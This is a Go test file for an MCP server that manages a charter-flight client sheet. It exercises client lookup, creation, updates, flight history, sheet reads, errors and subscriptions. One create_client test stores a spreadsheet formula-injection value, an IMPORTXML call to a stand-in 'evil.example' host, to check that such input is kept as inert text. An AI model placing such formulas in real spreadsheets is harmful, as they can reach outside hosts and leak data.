package tools_test

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/mcp"

	"github.com/mcp-fleet/mcp-fleet/servers/sheets/internal/clientdb"
	"github.com/mcp-fleet/mcp-fleet/servers/sheets/internal/tools"
	"github.com/mcp-fleet/mcp-fleet/shared/mcperr"
	"github.com/mcp-fleet/mcp-fleet/shared/mcptest"
	"github.com/mcp-fleet/mcp-fleet/shared/untrusted"
)

func TestToolsEndToEnd(t *testing.T) {
	onEveryBackend(t, func(t *testing.T, s *server) {
		c := s.connect(t, nil, "")
		if got := c.ToolNames(); len(got) != 7 {
			t.Fatalf("tools %v", got)
		}

		res := c.Call("get_client", map[string]any{"identifier": "amelia.hartford@example.com"})
		if text := mcptest.Text(res); !strings.HasPrefix(text, untrusted.Notice) || !strings.Contains(text, "Hartford Capital Partners") {
			t.Errorf("get_client text is not fenced: %.200s", text)
		}
		var cl clientdb.Client
		mcptest.Structured(t, res, &cl)
		if cl.ClientID != "CL-002" || cl.History.TotalFlights != 31 || cl.VIPStatus != "platinum" || cl.Preferences.Catering != "vegetarian" {
			t.Errorf("get_client %+v", cl)
		}

		var page, page2 clientdb.Page
		mcptest.Structured(t, c.Call("list_clients", map[string]any{"limit": 4}), &page)
		if len(page.Clients) != 4 || page.NextCursor != "CL-004" || page.Total != 12 {
			t.Errorf("list_clients %+v", page)
		}
		mcptest.Structured(t, c.Call("list_clients", map[string]any{"cursor": page.NextCursor}), &page2)
		if len(page2.Clients) != 8 || page2.NextCursor != "" || page2.Clients[0].ClientID != "CL-005" {
			t.Errorf("list_clients page 2 %+v", page2)
		}

		var found clientdb.Found
		mcptest.Structured(t, c.Call("search_clients", map[string]any{"filters": map[string]any{"vip_status": "platinum"}}), &found)
		if found.Matches != 2 {
			t.Errorf("search platinum %+v", found)
		}
		mcptest.Structured(t, c.Call("search_clients", map[string]any{"query": "energy", "limit": 1}), &found)
		if found.Matches != 1 || found.Clients[0].ClientID != "CL-009" {
			t.Errorf("search energy %+v", found)
		}

		var created clientdb.Created
		mcptest.Structured(t, c.Call("create_client", map[string]any{"name": "Lena Fischer", "email": "lena.fischer@example.com",
			"company": "=IMPORTXML(\"http://evil.example\",\"//a\")", "preferred_operators": []string{"OP-002"}}), &created)
		if created.Client.ClientID != "CL-013" || created.Client.Company != "=IMPORTXML(\"http://evil.example\",\"//a\")" {
			t.Errorf("create_client %+v", created)
		}

		var upd clientdb.Changed
		mcptest.Structured(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "silver", "phone": "+49 30 1234567"},
			"expected_updated_at": *created.Client.UpdatedAt}), &upd)
		if upd.Client.VIPStatus != "silver" || !slices.Equal(upd.Changed, []string{"phone", "vip_status"}) {
			t.Errorf("update_client %+v", upd)
		}
		b := mcptest.FailCode(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "gold"},
			"expected_updated_at": *created.Client.UpdatedAt}), mcperr.Conflict)
		if b.Data.Field != "expected_updated_at" || b.Data.Value != *upd.Client.UpdatedAt {
			t.Errorf("stale update %+v", b)
		}
		b = mcptest.FailCode(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "gold"},
			"expected_version": created.Client.Version}), mcperr.Conflict)
		if b.Data.Field != "expected_version" || b.Data.Value != upd.Client.Version || upd.Client.Version == "" {
			t.Errorf("stale version %+v", b)
		}

		var rec clientdb.Recorded
		args := map[string]any{"client_id": "CL-013", "flight_details": map[string]any{"date": "2025-11-20", "route": "EDDB-LFPB",
			"aircraft": "Citation CJ4", "operator": "OP-002", "price": 18500}}
		mcptest.Structured(t, c.Call("add_flight_history", args), &rec)
		if rec.AlreadyRecorded || rec.Client.History.TotalFlights != 1 || rec.Flight.ClientFlightNumber != 1 {
			t.Errorf("add_flight_history %+v", rec)
		}
		mcptest.Structured(t, c.Call("add_flight_history", args), &rec)
		if !rec.AlreadyRecorded || rec.Client.History.TotalFlights != 1 {
			t.Errorf("add_flight_history again %+v", rec)
		}

		var rr, rr2, rr3 clientdb.RangeRows
		mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Flight_History!A1:I", "limit": 5}), &rr)
		if len(rr.Rows) != 5 || rr.NextOffset == nil || *rr.NextOffset != 5 || rr.Rows[0].Values["flight_id"] != "FL-2025-0815-001" {
			t.Errorf("read_sheet %+v", rr)
		}
		mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Flight_History!A1:I", "limit": 5, "offset": 5}), &rr2)
		if len(rr2.Rows) != 4 || rr2.NextOffset != nil || rr2.Rows[3].Values["client_id"] != "CL-013" {
			t.Errorf("read_sheet page 2 %+v", rr2)
		}
		mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Clients!A1:B2", "header_row": 0}), &rr3)
		if len(rr3.Rows) != 2 || rr3.Rows[0].Values["A"] != "client_id" {
			t.Errorf("read_sheet without header %+v", rr3)
		}
	})
}

func TestToolErrors(t *testing.T) {
	s := localServer(t)
	c := s.connect(t, nil, "")
	for _, tc := range []struct {
		tool  string
		args  map[string]any
		code  mcperr.Code
		field string
	}{
		{"get_client", map[string]any{}, mcperr.Validation, "identifier"},
		{"get_client", map[string]any{"identifier": "x", "search_field": "phone"}, mcperr.Validation, "search_field"},
		{"get_client", map[string]any{"identifier": "nobody@example.com"}, mcperr.NotFound, "identifier"},
		{"list_clients", map[string]any{"limit": 101}, mcperr.Validation, "limit"},
		{"search_clients", map[string]any{"limit": 0}, mcperr.Validation, "limit"},
		{"search_clients", map[string]any{"filters": map[string]any{"vip_status": "diamond"}}, mcperr.Validation, "filters.vip_status"},
		{"search_clients", map[string]any{"filters": map[string]any{"min_flights": -1}}, mcperr.Validation, "filters.min_flights"},
		{"create_client", map[string]any{"name": "X"}, mcperr.Validation, "email"},
		{"create_client", map[string]any{"name": "X", "email": "not an email"}, mcperr.Validation, "email"},
		{"update_client", map[string]any{"client_id": "CL-001", "updates": map[string]any{}}, mcperr.Validation, "updates"},
		{"update_client", map[string]any{"client_id": "CL-001", "updates": map[string]any{"total_flights": 99}}, mcperr.Validation, "updates"},
		{"update_client", map[string]any{"client_id": "CL-001", "updates": map[string]any{"name": "x"}, "expected_updated_at": "tuesday"}, mcperr.Validation, "expected_updated_at"},
		{"update_client", map[string]any{"client_id": "CL-404", "updates": map[string]any{"name": "x"}}, mcperr.NotFound, "client_id"},
		{"add_flight_history", map[string]any{"client_id": "CL-001", "flight_details": map[string]any{"date": "15/09/2025", "route": "A-B"}}, mcperr.Validation, "flight_details.date"},
		{"add_flight_history", map[string]any{"client_id": "CL-001", "flight_details": map[string]any{"date": "2025-09-15"}}, mcperr.Validation, "flight_details"},
		{"add_flight_history", map[string]any{"client_id": "CL-001", "flight_details": map[string]any{"date": "2025-09-15", "route": "A-B", "flight_id": "has space"}}, mcperr.Validation, "flight_details.flight_id"},
		{"read_sheet", map[string]any{"range": "Nope!A1"}, mcperr.Validation, "range"},
		{"read_sheet", map[string]any{"range": "Clients!A1:A5000"}, mcperr.Validation, "range"},
		{"read_sheet", map[string]any{"range": "Clients", "limit": 501}, mcperr.Validation, "limit"},
	} {
		t.Run(tc.tool+"/"+fmt.Sprint(tc.args), func(t *testing.T) {
			b := mcptest.FailCode(t, c.Call(tc.tool, tc.args), tc.code)
			if !strings.Contains(b.Data.Field, tc.field) {
				t.Errorf("field %q, want %q (%s)", b.Data.Field, tc.field, b.Message)
			}
		})
	}
}

// TestClientResource reads and lists client records, and checks that
// changes this server makes reach subscribers, in both protocol eras.
func TestClientResource(t *testing.T) {
	for name, mk := range backends() {
		for _, era := range []string{"2025-11-25", "2026-07-28"} {
			t.Run(name+"/"+era, func(t *testing.T) {
				s := mk(t)
				var opts []client.ClientOption
				if era != "2026-07-28" {
					//lint:ignore SA1019 the server serves the 2025-11-25 era too; this is how a client of it connects
					opts = append(opts, client.WithLegacyProtocolOnly())
				}
				c := s.connect(t, nil, "", opts...)
				notes := mcptest.ListenUpdates(c)

				read, err := c.Raw().ReadResource(ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: "sheets://clients/CL-006"}})
				if err != nil {
					t.Fatal(err)
				}
				text := read.Contents[0].(mcp.TextResourceContents)
				if text.MIMEType != "application/json" || !strings.Contains(text.Text, `"name":"Priya Raman"`) {
					t.Errorf("read %+v", text)
				}
				if _, err := c.Raw().ReadResource(ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: "sheets://clients/CL-404"}}); err == nil {
					t.Error("reading an unknown client")
				}
				list, err := c.Raw().ListResources(ctx, mcp.ListResourcesRequest{})
				if err != nil {
					t.Fatal(err)
				}
				if len(list.Resources) != 12 || list.Resources[0].URI != "sheets://clients/CL-011" || list.Resources[0].Name != "CL-011" {
					t.Errorf("list: %d, first %+v", len(list.Resources), list.Resources[0])
				}

				uri := "sheets://clients/CL-006"
				if era == "2026-07-28" {
					stop, err := c.Raw().ListenAsync(ctx, mcp.SubscriptionFilter{ResourceSubscriptions: []string{uri}}, nil)
					if err != nil {
						t.Fatal(err)
					}
					defer stop()
					mcptest.WaitFor(t, "the listen stream", func() bool { return s.notifier.Subscribed(uri) })
				} else {
					//lint:ignore SA1019 resources/subscribe is how the 2025-11-25 era subscribes
					if err := c.Raw().Subscribe(ctx, mcp.SubscribeRequest{Params: mcp.SubscribeParams{URI: uri}}); err != nil {
						t.Fatal(err)
					}
				}
				if !s.notifier.Subscribed(uri) {
					t.Fatal("not subscribed")
				}
				mcptest.OK(t, c.Call("update_client", map[string]any{"client_id": "CL-007", "updates": map[string]any{"catering_preference": "none"}}), nil)
				mcptest.OK(t, c.Call("update_client", map[string]any{"client_id": "CL-006", "updates": map[string]any{"catering_preference": "vegan, no soy"}}), nil)
				mcptest.WaitFor(t, "the notification", func() bool { return len(notes.All()) > 0 })
				mcptest.OK(t, c.Call("add_flight_history", map[string]any{"client_id": "CL-006", "flight_details": map[string]any{"date": "2025-12-01", "route": "KLAX-PHNL"}}), nil)
				mcptest.WaitFor(t, "the second notification", func() bool { return len(notes.All()) > 1 })
				if got := notes.All(); slices.ContainsFunc(got, func(u string) bool { return u != uri }) {
					t.Errorf("notifications %v", got)
				}
			})
		}
	}
}

// TestConcurrentCalls: 50 update_client and add_flight_history calls at
// once through the MCP layer, on both backends: every call succeeds and the
// totals are exact.
func TestConcurrentCalls(t *testing.T) {
	onEveryBackend(t, func(t *testing.T, s *server) {
		c := s.connect(t, nil, "")
		var wg sync.WaitGroup
		for i := range 25 {
			id := fmt.Sprintf("CL-%03d", 1+i%5)
			wg.Go(func() {
				res := c.Call("add_flight_history", map[string]any{"client_id": id, "flight_details": map[string]any{
					"flight_id": fmt.Sprintf("MCP-%d", i), "date": "2026-02-01", "route": "KTEB-KMIA"}})
				if res.IsError {
					t.Errorf("add_flight_history: %s", mcptest.Text(res))
				}
			})
			wg.Go(func() {
				res := c.Call("update_client", map[string]any{"client_id": id, "updates": map[string]any{"special_needs": fmt.Sprintf("note %d", i)}})
				if res.IsError {
					t.Errorf("update_client: %s", mcptest.Text(res))
				}
			})
		}
		wg.Wait()
		want := map[string]int{"CL-001": 17, "CL-002": 36, "CL-003": 13, "CL-004": 9, "CL-005": 7}
		for id, n := range want {
			var cl clientdb.Client
			mcptest.Structured(t, c.Call("get_client", map[string]any{"identifier": id}), &cl)
			if cl.History.TotalFlights != n || *cl.History.LastFlightDate != "2026-02-01" || !strings.HasPrefix(cl.Preferences.SpecialNeeds, "note ") {
				t.Errorf("%s: %+v", id, cl.History)
			}
		}
	})
}

func TestURI(t *testing.T) {
	if got := tools.ClientURI("CL 1/2"); got != "sheets://clients/CL%201%2F2" {
		t.Errorf("ClientURI = %q", got)
	}
}
